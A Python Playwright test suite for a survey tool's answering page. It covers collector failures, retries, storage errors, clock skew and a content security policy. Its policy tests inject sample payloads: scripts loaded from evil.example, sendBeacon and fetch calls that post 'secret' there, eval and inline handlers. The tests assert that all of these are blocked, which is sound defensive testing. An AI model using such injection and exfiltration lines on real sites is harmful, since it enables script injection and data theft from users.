"""The page to answer on when something is wrong: the report is kept, the person is told, nothing is sent twice."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

import sottovoce as sv
from sottovoce.surveys.survey import Survey
from support.answering import Respondent, kinds
from support.browsing import browsing, violations
from support.loading import running

pytestmark = pytest.mark.slow
TEA = kinds()["radios"]
DAILY = Survey("Daily", "And today?", sv.mechanism("grr", sv.Categories(["tea", "coffee"]), 1.0), "day")  # fmt: skip


@pytest.fixture(scope="module")
def browser():
    """Chromium, for which collector.test is this machine."""
    with browsing("--host-resolver-rules=MAP collector.test 127.0.0.1") as started:
        yield started


@pytest.fixture
def collector(tmp_path, browser):
    with running(tmp_path, TEA.survey, DAILY) as found:
        yield found


@pytest.fixture
def person(browser, collector):
    with Respondent(browser, collector) as found:
        yield found


# -- a collector that does not take the report -----------------------------------------------------


def after_it_was_stored(route):
    route.fetch()
    route.abort()


FAULTS = {
    "429": (lambda route: route.fulfill(status=429, body="{}", headers={"retry-after": "1"}), "The collector is busy"),
    "503": (lambda route: route.fulfill(status=503, body="{}"), "The collector is busy"),
    "HTML": (lambda route: route.fulfill(status=200, body="<h1>Welcome</h1>", content_type="text/html"), "Something other than the collector answered"),
    "no network": (lambda route: route.abort(), "The collector did not answer"),
    "network gone half-way": (after_it_was_stored, "The collector did not answer"),
}  # fmt: skip


@pytest.mark.parametrize("name", FAULTS)
def test_a_report_that_is_not_taken_is_kept_and_sent_later(person, name):
    fault, said = FAULTS[name]
    person.page.route("**/reports", fault)
    page = person.answer(TEA)
    assert page.get_by_role("heading", name="Kept in this browser").is_visible()
    assert person.status == f"{said}, so your report is kept on this device, and the same bytes are sent later."  # fmt: skip
    assert person.status.count(".") == 1
    assert violations(page) == []
    page.unroute("**/reports")
    page.get_by_role("button", name="Try again now").click()
    page.get_by_role("heading", name="Sent").wait_for()
    assert person.stored(TEA.survey) == 1
    assert len(set(person.uploads)) == 1


def test_what_is_pending_is_sent_at_the_next_visit(person):
    person.page.route("**/reports", lambda route: route.abort())
    page = person.answer(TEA)
    page.unroute("**/reports")
    page.close()
    person.page = person.context.new_page()
    page = person.visit(TEA.survey)
    page.get_by_role("heading", name="Sent").wait_for()
    assert person.stored(TEA.survey) == 1


def test_what_is_pending_is_sent_when_the_network_is_back(person):
    page = person.visit(TEA.survey)
    TEA.answer(page)
    person.context.set_offline(True)
    person.send()
    page.get_by_role("heading", name="Kept in this browser").wait_for()
    person.context.set_offline(False)
    page.get_by_role("heading", name="Sent").wait_for()
    assert person.stored(TEA.survey) == 1


def test_a_withdrawal_that_is_not_confirmed_is_asked_again(person):
    page = person.answer(TEA)
    page.route("**/reports/*", lambda route: route.fulfill(status=503, body="{}"))
    page.locator("summary", has_text="Withdraw").click()
    page.get_by_role("button", name="Withdraw this report").click()
    page.get_by_role("heading", name="Withdrawn").wait_for()
    assert person.status == "Your report is withdrawn, but the collector has not confirmed that it deleted it."  # fmt: skip
    page.unroute("**/reports/*")
    page.get_by_role("button", name="Try again now").click()
    page.get_by_text("the collector does not have it").wait_for()
    assert person.stored(TEA.survey) == 0
    assert len(person.uploads) == 1


# -- refused before anything is drawn ----------------------------------------------------------------


def check_nothing_drawn(person, said):
    assert person.status.startswith(f"{said}, so nothing was drawn or sent.")
    assert person.uploads == []
    assert person.stored(TEA.survey) == 0
    assert violations(person.page) == []


def test_a_survey_that_is_closed_meanwhile(person, collector):
    page = person.visit(TEA.survey)
    TEA.answer(page)
    collector.close(TEA.survey)
    person.send()
    page.get_by_text("This survey is closed").wait_for()
    check_nothing_drawn(person, "This survey is closed")
    page = person.visit(TEA.survey)
    assert page.locator("form").count() == 0
    check_nothing_drawn(person, "This survey is closed")


def test_storage_that_is_denied(person):
    denied = "throw new DOMException('denied', 'SecurityError')"
    person.page.add_init_script(f"IDBFactory.prototype.open = () => {{ {denied} }}")
    page = person.visit(TEA.survey)
    check_nothing_drawn(person, "This browser does not let the page remember what it sends")
    assert page.locator("form").count() == 0


def test_storage_that_fails_between(person):
    page = person.visit(TEA.survey)
    TEA.answer(page)
    full = "throw new DOMException('full', 'QuotaExceededError')"
    page.evaluate(f"() => {{ IDBFactory.prototype.open = () => {{ {full} }} }}")
    person.send()
    page.get_by_text("so nothing was drawn or sent.").wait_for()
    check_nothing_drawn(person, "This browser does not let the page remember what it sends")
    assert page.locator("form").count() == 1


def test_storage_that_fails_after_the_report(person):
    page = person.answer(TEA)
    denied = "throw new DOMException('denied', 'SecurityError')"
    page.evaluate(f"() => {{ IDBFactory.prototype.open = () => {{ {denied} }} }}")
    page.locator("summary", has_text="Withdraw").click()
    page.get_by_role("button", name="Withdraw this report").click()
    page.get_by_text("so nothing more was sent.").wait_for()
    assert page.get_by_role("heading", name="Sent").is_visible()
    assert person.stored(TEA.survey) == 1


def test_a_collector_that_gives_no_survey(person):
    person.page.route("**/surveys/*", lambda route: route.fulfill(status=200, body="<h1>Hello"))
    person.visit(TEA.survey)
    check_nothing_drawn(person, "This survey does not pass the checks of this page")
    person.page.unroute("**/surveys/*")
    person.page.route("**/surveys/*", lambda route: route.abort())
    person.visit(TEA.survey)
    check_nothing_drawn(person, "The collector did not answer")


def test_a_survey_whose_weights_break_its_promise(person):
    def changed(route):
        text = TEA.survey.to_json().replace('"epsilon":"1"', '"epsilon":"0.5"')
        assert text != TEA.survey.to_json()
        route.fulfill(status=200, body=text, content_type="application/json")

    person.page.route("**/surveys/*", changed)
    person.visit(TEA.survey)
    check_nothing_drawn(person, "This survey does not pass the checks of this page")


# -- clocks ------------------------------------------------------------------------------------------


def at(person, days):
    """The page as a device sees it whose clock is so many days off."""
    person.page.clock.set_fixed_time(datetime.now(UTC) + timedelta(days))
    page = person.visit(DAILY)
    page.get_by_label("tea").check()
    person.send()
    page.locator("#ask h2:not([hidden])").wait_for()
    return page


def test_a_clock_that_is_a_day_ahead(person):
    page = at(person, 1)
    assert page.get_by_role("heading", name="Kept in this browser").is_visible()
    assert person.status == "The date of this device is ahead of the collector's, so your report is kept on this device, and the same bytes are sent later."  # fmt: skip
    assert person.stored(DAILY) == 0
    assert len(person.uploads) == 1


def test_a_clock_that_is_a_day_behind(person):
    page = at(person, -1)
    assert page.get_by_role("heading", name="Sent").is_visible()
    assert (person.stored(DAILY), len(person.uploads)) == (1, 1)


def test_a_clock_that_is_a_week_behind(person):
    page = at(person, -7)
    assert page.get_by_role("heading", name="Not taken").is_visible()
    assert person.status == "The collector did not take your report (the time to answer is over), and it is not sent again."  # fmt: skip
    assert violations(page) == []


# -- an unencrypted connection -----------------------------------------------------------------------


def test_an_unencrypted_connection_is_warned_of(tmp_path, browser):
    """A name is not a secure context over http, other than localhost."""
    with running(tmp_path, TEA.survey, hosts="collector.test") as collector:
        collector.address = ("collector.test", collector.address[1])
        with Respondent(browser, collector) as person:
            page = person.visit(TEA.survey)
            assert not page.evaluate("isSecureContext || 'subtle' in crypto")
            assert "came over an unencrypted connection" in page.inner_text(".warning")
            assert violations(page) == []
            person.answer(TEA)
            assert (page.inner_text("#ask h2"), person.stored(TEA.survey)) == ("Sent", 1)


# -- what the policy blocks --------------------------------------------------------------------------

FOREIGN = """<script src="https://evil.example/script.js"></script>
<script>window.ran = true</script><script src="../../answer.js"></script>
<p onclick="window.ran = true" id="trap">click</p><a href="javascript:window.ran = true" id="link">go</a>"""
ATTEMPTS = """async () => {
  await new Promise((resolve) => setTimeout(resolve, 50));  // so that it runs as code of the page does
  const blocked = [], errors = [];
  addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
  const attempt = (work) => { try { work(); } catch (error) { errors.push(error.name); } };
  const insert = (tag, fields) => attempt(() => document.body.append(Object.assign(document.createElement(tag), fields)));
  insert('script', { src: 'https://evil.example/script.js' });
  insert('script', { src: '../../answer.js?other' });
  insert('script', { textContent: 'window.ran = true' });
  insert('img', { src: 'https://evil.example/picture.png' });
  insert('iframe', { src: 'https://evil.example/' });
  insert('link', { rel: 'stylesheet', href: 'https://evil.example/style.css' });
  insert('style', { textContent: 'body { display: none }' });
  insert('base', { href: 'https://evil.example/' });
  attempt(() => { document.body.innerHTML = '<b>no</b>'; });
  attempt(() => { document.body.insertAdjacentHTML('beforeend', '<b>no</b>'); });
  attempt(() => setTimeout('window.ran = true', 0));
  attempt(() => (0, eval)('window.ran = true'));
  attempt(() => new Function('window.ran = true')());
  attempt(() => document.body.append(Object.assign(document.createElement('form'), { action: 'https://evil.example/', id: 'evil' })));
  attempt(() => document.getElementById('evil').submit());
  attempt(() => navigator.sendBeacon('https://evil.example/', 'secret'));
  await fetch('https://evil.example/', { method: 'POST', body: 'secret', mode: 'no-cors' }).catch(() => errors.push('fetch'));
  await new Promise((resolve) => setTimeout(resolve, 300));
  return { blocked: [...new Set(blocked)].sort(), errors, ran: 'ran' in window, whole: document.querySelector('h1') !== null };
}"""


def test_script_that_is_slipped_into_the_page_does_not_run(browser, collector):
    with browser.new_context() as context:
        page, reached, blocked = context.new_page(), [], []
        context.route("https://evil.example/**", lambda route: (reached.append(route.request.url), route.abort()))  # fmt: skip
        page.on("console", lambda message: blocked.append(message.text))

        def slip(route):
            reply = route.fetch()
            route.fulfill(response=reply, body=reply.text().replace("</main>", f"{FOREIGN}</main>"))

        page.route("**/answer", slip)
        page.goto(f"{collector.url}/surveys/{TEA.survey.fingerprint}/answer")
        page.locator("form").wait_for()
        page.locator("#trap").click()
        page.locator("#link").click()
        page.wait_for_timeout(300)
        assert page.evaluate("'ran' in window") is False
        assert reached == []
        assert sum("script-src" in text for text in blocked) >= 5


def test_foreign_and_inline_script_markup_and_requests_are_blocked(browser, collector):
    """Even code that runs in the page can neither load more code nor send anything elsewhere."""
    with browser.new_context() as context:
        page, reached = context.new_page(), []
        context.route("https://evil.example/**", lambda route: (reached.append(route.request.url), route.abort()))  # fmt: skip
        page.goto(f"{collector.url}/surveys/{TEA.survey.fingerprint}/answer")
        page.locator("form").wait_for()
        found = page.evaluate(ATTEMPTS)
        assert found["blocked"] == [
            "base-uri", "connect-src", "form-action", "frame-src", "img-src",
            "require-trusted-types-for", "style-src-elem",
        ]  # fmt: skip
        assert found["errors"].count("TypeError") >= 5
        assert (found["ran"], found["whole"], reached) == (False, True, [])


def test_the_page_is_not_shown_in_a_frame(browser, collector):
    with browser.new_context() as context:
        page = context.new_page()
        address = f"{collector.url}/surveys/{TEA.survey.fingerprint}/answer"
        page.route("**/site", lambda route: route.fulfill(body=f"<iframe src='{address}'>", content_type="text/html"))  # fmt: skip
        page.goto(f"{collector.url}/site")
        page.wait_for_timeout(500)
        assert [each.locator("form").count() for each in page.frames] == [0, 0]
